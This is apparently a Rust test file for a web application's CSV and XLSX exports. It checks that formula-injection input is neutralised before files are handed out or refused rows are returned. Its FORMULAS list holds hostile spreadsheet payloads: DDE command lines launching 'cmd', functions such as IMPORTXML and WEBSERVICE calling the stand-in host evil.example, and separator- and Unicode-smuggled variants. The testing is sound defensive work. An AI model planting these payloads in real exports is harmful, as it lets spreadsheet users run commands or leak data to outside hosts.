//! Nothing that strangers wrote runs in a spreadsheet: not in a cell of its own, and not in one that a
//! program with another separator cuts out of a text.

use std::io::{Cursor, Read};

use calamine::{Data, Reader, Xlsx};

use super::desk::Browser;
use super::markup::poisoned_site;
use super::*;

/// What spreadsheets read as formulas, with what is put before it to be overlooked.
#[rustfmt::skip]
const FORMULAS: [&str; 26] = [
    "=1+1", "=cmd|'/c calc'!A1", "=HYPERLINK(\"http://evil.example\",\"x\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")", "+1+1", "+cmd|'/c calc'!A1", "-2+3+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u{a0}=1+1", "\u{feff}=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    "x;=cmd|'/c calc'!A1", "x,=cmd|'/c calc'!A1", "x\"\n=cmd|'/c calc'!A1", "x\";\"=cmd|'/c calc'!A1", "x\t@SUM(1)", "x\n-2+cmd|'/c calc'!A0",
];
const SEPARATORS: [u8; 3] = [b',', b';', b'\t'];

/// Whether a spreadsheet would calculate a cell; a mere number is none.
fn is_formula(cell: &str) -> bool {
    let text = cell.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || c == '\u{feff}' || c == '"');
    let sign = text.chars().next().unwrap_or_default();
    let runs = "=@＝＠".contains(sign) || ("+-＋－".contains(sign) && text.parse::<f64>().is_err());
    // Arithmetic of numbers and the dash of a list reach nothing.
    runs && (cell == text || "=@＝＠".contains(sign) || text.contains(['(', '|', '!']))
}

fn assert_only_texts(file: &[u8], what: &str) {
    for separator in SEPARATORS {
        for quoted in [true, false] {
            let mut reader = csv::ReaderBuilder::new()
                .delimiter(separator)
                .quoting(quoted)
                .has_headers(false)
                .flexible(true)
                .from_reader(file);
            for row in reader.records() {
                let row = row.expect("a row");
                for cell in &row {
                    assert!(!is_formula(cell), "{what}, cut at {:?}: {cell:?}", char::from(separator));
                }
            }
        }
    }
}

fn assert_no_formulas(file: &[u8], what: &str) {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(file)).unwrap_or_else(|error| panic!("{what}: {error}"));
    let mut texts = 0;
    for sheet in book.sheet_names() {
        assert!(book.worksheet_formula(&sheet).expect("a sheet").is_empty(), "{what}: a formula in {sheet}");
        let range = book.worksheet_range(&sheet).expect("a sheet");
        texts += range.cells().filter(|(_, _, cell)| matches!(cell, Data::String(_))).count();
    }
    assert!(texts > 10, "{what}: only {texts} texts");
    let mut parts = zip::ZipArchive::new(Cursor::new(file)).expect("a workbook");
    for n in 0..parts.len() {
        let mut part = parts.by_index(n).expect("a part");
        let name = part.name().expect("a name").into_owned();
        let mut text = String::new();
        part.read_to_string(&mut text).expect("text");
        assert!(!name.contains("externalLink") && !name.contains("vbaProject"), "{what}: {name}");
        assert!(!text.contains("<f>") && !text.contains("<hyperlink"), "{what}: {name}");
        // What a workbook names outside itself it could be made to fetch.
        assert!(!text.contains("TargetMode=\"External\""), "{what}: {name}");
    }
}

#[tokio::test]
async fn no_file_that_is_given_out_has_a_formula() {
    for payload in FORMULAS {
        let site = poisoned_site(payload);
        let files = PAGES.iter().map(|row| row.path).filter(|path| path.ends_with(".csv") || path.ends_with(".xlsx"));
        for path in files {
            for language in ["uk", "en"] {
                let answer = site.get(&format!("{}?lang={language}", filled(path))).await;
                assert_eq!(answer.status, StatusCode::OK, "{path} {payload:?}");
                let what = format!("{path} {payload:?}");
                if path.ends_with(".csv") {
                    assert_only_texts(&answer.body, &what);
                } else {
                    assert_no_formulas(&answer.body, &what);
                }
            }
        }
    }
}

#[tokio::test]
async fn the_rows_that_were_refused_have_no_formula() {
    let site = Site::new();
    let mut browser = Browser::of(&site, "Іван").await;
    for payload in FORMULAS {
        let mut table = csv::WriterBuilder::new().delimiter(b';').from_writer(Vec::new());
        table.write_record(["Назва практики", "Галузь", payload]).expect("written");
        table.write_record([payload, payload, payload]).expect("written");
        let path = import::uploaded(&mut browser, &table.into_inner().expect("written")).await;
        let file = browser.get(&format!("{path}/refused.xlsx")).await;
        assert_eq!(file.status, StatusCode::OK, "{payload:?}");
        let mut book: Xlsx<_> = Xlsx::new(Cursor::new(file.body)).expect("a workbook");
        for sheet in book.sheet_names() {
            assert!(book.worksheet_formula(&sheet).expect("a sheet").is_empty(), "{payload:?}");
        }
        browser.submit(&path, &[("do", "remove")]).await;
    }
}
